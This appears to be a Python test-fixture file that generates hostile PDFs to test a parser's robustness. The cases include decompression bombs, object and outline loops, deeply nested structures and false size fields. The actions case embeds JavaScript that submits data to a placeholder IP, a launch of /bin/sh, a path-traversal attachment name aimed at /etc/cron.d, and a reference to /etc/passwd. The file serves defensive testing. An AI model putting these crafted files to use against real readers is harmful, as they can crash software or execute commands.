"""PDF files that grow, loop, nest, lie about sizes and want something run."""
import struct
import zlib

from .case import case

MIB = 1 << 20
GOOD = "heliotrope"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(objects, trailer=b"", xref=True):
    """Objects by number; 1 is the catalog."""
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    at = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (max(places) + 1)
        out += b"".join(b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n" for number in range(1, max(places) + 1))
    return out + b"trailer\n<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (max(places) + 1, trailer, at)


def stream(content, more=b""):
    return b"<</Length %d%s>>\nstream\n" % (len(content), more) + content + b"\nendstream"


def show(text):
    return b"BT /F 12 Tf 72 700 Td (" + text.encode() + b") Tj ET\n"


def page(content=None, more=b"", page_more=b"", extra=None, catalog=b""):
    """One page with a good word, or another content."""
    objects = {1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>" + more + b">>" + page_more + b">>",
               4: content or stream(show(GOOD)), 5: FONT}
    return {**objects, **(extra or {})}


def _flate(chunk, count, head=b""):
    packer = zlib.compressobj(9)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + piece * count + packer.flush()


def _many_forms(levels):
    """Each form draws the next one ten times."""
    forms = {}
    for level in range(levels):
        last = level == levels - 1
        body = show("x") if last else b"/X Do\n" * 10
        more = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</Font<</F 5 0 R>>"
        more += b"/XObject<<>>>>" if last else b"/XObject<</X %d 0 R>>>>" % (11 + level)
        forms[10 + level] = stream(body, more)
    return pdf(page(stream(show(GOOD) + b"/X Do\n"), b"/XObject<</X 10 0 R>>", extra=forms))


def _tree(depth):
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for level in range(depth):
        objects[2 + level] = b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>" % (3 + level, b"/Parent %d 0 R" % (1 + level) if level else b"")
    objects[2 + depth] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 612 792]>>" % (1 + depth)
    return pdf(objects)


def _outline(items, root=b"<</First 11 0 R/Last 11 0 R>>"):
    return pdf(page(catalog=b"/Outlines 10 0 R", extra={10: root, **items}))


def _xref_stream(index, widths, rows):
    body = pdf(page(), xref=False)
    body = body[:body.rindex(b"trailer")]
    at = len(body)
    return body + b"99 0 obj\n" + stream(rows, b"/Type/XRef/Root 1 0 R/Size 100/W[%s]/Index[%s]" % (widths, index)) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def _actions():
    script = b"<</S/JavaScript/JS(app.alert\\('foxglove'\\); this.submitForm\\('http://192.0.2.1/'\\))>>"
    launch = b"<</S/Launch/F(/bin/sh)/Next<</S/URI/URI(http://192.0.2.1/)>>>>"
    attached = {20: b"<</Type/Filespec/F(../../../etc/cron.d/evil)/UF(../../../etc/cron.d/evil)/EF<</F 21 0 R>>>>", 21: stream(b"marigold in an attachment"),
                22: b"<</Type/Filespec/F(/etc/passwd)/EF<</F 23 0 R>>>>", 23: b"<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream"}
    return pdf(page(page_more=b"/AA<</O " + script + b">>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A " + launch + b">>"
                              b"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(http://192.0.2.1/m.avi)>>>>]",
                    catalog=b"/OpenAction " + launch + b"/AA<</WC " + script + b">>/Names<</JavaScript<</Names[(a) " + script + b"]>>"
                            b"/EmbeddedFiles<</Names[(a) 20 0 R(b) 22 0 R]>>>>", extra=attached))


def _image(width, height, more, data):
    image = stream(data, b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB" % (width, height) + more)
    return pdf(page(stream(show(GOOD) + b"q 600 0 0 700 0 0 cm /I Do Q\n"), b"/XObject<</I 10 0 R>>", extra={10: image}))


def cases():
    bomb = zlib.compress(_flate(b"0 0 m\n" * (MIB // 6), 1000, show(GOOD)), 9)
    return [
        case("flate_twice.pdf", lambda: pdf(page(stream(bomb, b"/Filter[/FlateDecode/FlateDecode]"))), may_time_out=True),
        case("flate_text.pdf", lambda: pdf(page(stream(_flate(show("word " * 20) * 2000, 300, show(GOOD)), b"/Filter/FlateDecode"))), may_time_out=True),
        case("flate_spaces.pdf", lambda: pdf(page(stream(_flate(b" " * MIB, 4000, show(GOOD)), b"/Filter/FlateDecode"))), may_time_out=True),
        case("runs.pdf", lambda: pdf(page(stream(b"\x81 " * 4_000_000 + b"\x80", b"/Filter/RunLengthDecode"))), may_time_out=True),
        case("filters.pdf", lambda: pdf(page(stream(show(GOOD).hex().encode() + b">", b"/Filter[" + b"/ASCIIHexDecode" * 100_000 + b"]"))), may_time_out=True),
        case("forms.pdf", lambda: _many_forms(9), may_time_out=True),
        case("form_in_itself.pdf", lambda: pdf(page(stream(show(GOOD) + b"/X Do\n"), b"/XObject<</X 10 0 R>>", extra={10: stream(
            b"/X Do /X Do\n", b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X 10 0 R>>>>")})), words=GOOD),
        case("pattern_in_itself.pdf", lambda: pdf(page(stream(show(GOOD) + b"/Pattern cs /P scn 0 0 600 700 re f\n"), b"/Pattern<</P 10 0 R>>", extra={10: stream(
            b"/Pattern cs /P scn 0 0 9 9 re f\n", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 0.001/YStep 0.001/Resources<</Pattern<</P 10 0 R>>>>")})), words=GOOD, may_time_out=True),
        case("tiny_tiles.pdf", lambda: pdf(page(stream(show(GOOD) + b"/Pattern cs /P scn 0 0 600 700 re f\n"), b"/Pattern<</P 10 0 R>>", extra={10: stream(
            b"0 0 1 1 re f\n" * 1000, b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.01/YStep 0.01/Resources<<>>")})), words=GOOD, may_time_out=True),
        case("page_in_itself.pdf", lambda: pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3>>", 3: b"<</Type/Pages/Kids[2 0 R]/Count 9>>"})),
        case("count_lies.pdf", lambda: pdf({**page(), 2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"})),
        case("count_negative.pdf", lambda: pdf({**page(), 2: b"<</Type/Pages/Kids[3 0 R]/Count -5>>"})),
        case("page_tree.pdf", lambda: _tree(2_000)),
        case("hundred_thousand_pages.pdf", lambda: pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>",
                                                        **{k: v for k, v in page().items() if k > 2}})),
        case("nested_arrays.pdf", lambda: pdf(page(extra={10: b"[" * 500_000}, catalog=b"/X 10 0 R")), words=GOOD),
        case("nested_in_page.pdf", lambda: pdf(page(stream(show(GOOD) + b"[" * 500_000 + b"<<" * 500_000)))),
        case("nested_dictionary.pdf", lambda: pdf({**page(), 3: b"<</Type/Page" + b"/A<<" * 200_000})),
        case("saved_states.pdf", lambda: pdf(page(stream(show(GOOD) + b"q " * 1_000_000))), words=GOOD, may_time_out=True),
        case("outline_in_itself.pdf", lambda: _outline({11: b"<</Title(looped)/Next 11 0 R/First 11 0 R/Last 11 0 R/Parent 10 0 R>>"}), words=GOOD),
        case("outline_pair.pdf", lambda: _outline({11: b"<</Title(one)/Next 12 0 R/First 12 0 R>>", 12: b"<</Title(two)/Next 11 0 R/First 11 0 R>>"}), words=GOOD),
        case("outline_deep.pdf", lambda: _outline({11 + n: b"<</Title(deep)/First %d 0 R/Last %d 0 R>>" % (12 + n, 12 + n) for n in range(20_000)}), words=GOOD),
        case("reference_to_itself.pdf", lambda: pdf({**page(), 4: b"4 0 R"})),
        case("length_to_itself.pdf", lambda: pdf({**page(), 4: b"<</Length 4 0 R>>\nstream\n" + show(GOOD) + b"\nendstream"})),
        case("xref_loop.pdf", lambda: pdf(page(), b"/Prev 9")[:-6].replace(b"/Prev 9", b"/Prev %d" % pdf(page(), b"/Prev 999").index(b"xref\n0")) + b"%%EOF\n", words=GOOD),
        case("xref_index.pdf", lambda: _xref_stream(b"0 2147483647", b"1 2 1", b"\1\0\0\0" * 10)),
        case("xref_widths.pdf", lambda: _xref_stream(b"0 100", b"1000000000 1000000000 1000000000", b"\1\0\0\0" * 10)),
        case("object_stream.pdf", lambda: pdf(page(extra={10: stream(b"11 0 " * 10, b"/Type/ObjStm/N 2147483647/First 2147483647/Extends 10 0 R")}, catalog=b"/X 11 0 R"))),
        case("size_lies.pdf", lambda: pdf(page(), b"/Size 2147483647"), words=GOOD),
        case("no_xref.pdf", lambda: pdf(page(), xref=False), words=GOOD),
        case("huge_box.pdf", lambda: pdf(page(page_more=b"/MediaBox[-1e30 -1e30 1e30 1e30]/UserUnit 1e9"))),
        case("zero_box.pdf", lambda: pdf(page(page_more=b"/MediaBox[0 0 0 0]/Rotate 45"))),
        case("thin_box.pdf", lambda: pdf(page(page_more=b"/MediaBox[0 0 1000000 0.0001]"))),
        case("huge_image.pdf", lambda: _image(2_000_000_000, 2_000_000_000, b"", b"x" * 100)),
        case("flate_image.pdf", lambda: _image(60_000, 60_000, b"/Filter/FlateDecode", _flate(bytes(MIB), 1000))),
        case("predictor.pdf", lambda: _image(100, 100, b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Colors 2147483647/Columns 2147483647/BitsPerComponent 16>>", zlib.compress(bytes(99)))),
        case("jbig.pdf", lambda: _image(100, 100, b"/Filter/JBIG2Decode", struct.pack(">IBBBIIIIIBH", 0, 0x30, 0, 1, 19, 0xFFFFFFFF, 0xFFFFFFFF, 0, 0, 0, 0))),
        case("fax.pdf", lambda: _image(100, 100, b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483646/Rows 2147483646>>", b"\0" * 100)),
        case("shading.pdf", lambda: pdf(page(stream(show(GOOD) + b"/S sh\n"), b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1e9 0 1e9]/Function 10 0 R>>>>",
                                             extra={10: stream(b"{" * 10_000 + b"}" * 10_000, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]")})), words=GOOD),
        case("dashes.pdf", lambda: pdf(page(stream(show(GOOD) + b"[0.00001] 0 d 0.0001 w 0 0 m 1000000000 1000000000 l S\n"))), words=GOOD),
        case("far_text.pdf", lambda: pdf(page(stream(show(GOOD) + b"BT /F 1e30 Tf 1e30 -1e30 Td (far) Tj /F 0 Tf (none) Tj ET\n"))), words=GOOD),
        case("same_place.pdf", lambda: pdf(page(stream(show(GOOD) + b"BT /F 9 Tf 72 72 Td " + b"(a) Tj " * 200_000 + b"ET\n")))),
        case("scattered.pdf", lambda: pdf(page(stream(show(GOOD) + b"BT /F 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (w) Tj " % (n * 7 % 600, n * 13 % 790) for n in range(60_000)) + b"ET\n"))), may_time_out=True),
        case("to_unicode.pdf", lambda: pdf({**page(), 5: b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[5 0 R]/ToUnicode 10 0 R>>",
                                            10: stream(b"1 begincodespacerange<0000><FFFFFFFF>endcodespacerange\n" + b"1 beginbfrange<00000000><FFFFFFFF><0041>endbfrange\n" * 10_000)}), may_time_out=True),
        case("font_in_itself.pdf", lambda: pdf({**page(), 5: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/Encoding<</Differences[104/h 101/h]>>/FirstChar 0/LastChar 255"
                                                                b"/CharProcs<</h 10 0 R>>/Resources<</Font<</F 5 0 R>>>>>>", 10: stream(b"9 0 d0 BT /F 1 Tf (hehe) Tj ET")}), may_time_out=True),
        case("fields.pdf", lambda: pdf(page(catalog=b"/AcroForm<</Fields[10 0 R]>>", extra={10: b"<</T(loop)/V(x)/Kids[10 0 R 10 0 R]/Parent 10 0 R>>"})), words=GOOD),
        case("names_in_itself.pdf", lambda: pdf(page(catalog=b"/Names<</EmbeddedFiles 10 0 R>>", extra={10: b"<</Kids[10 0 R 10 0 R]>>"})), words=GOOD),
        case("annotations.pdf", lambda: pdf(page(page_more=b"/Annots[" + b"10 0 R " * 100_000 + b"]", extra={10: b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(note)/Parent 10 0 R/Popup 10 0 R>>"}))),
        # poppler_document_get_attachments of 22.12 takes every file specification for one with an embedded file.
        case("named_but_not_embedded.pdf", lambda: pdf(page(catalog=b"/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>", extra={10: b"(/etc/passwd)"})), words=GOOD, may_crash=True),
        case("actions.pdf", _actions, words=GOOD + " marigold", never="root:x:0 foxglove"),
    ]
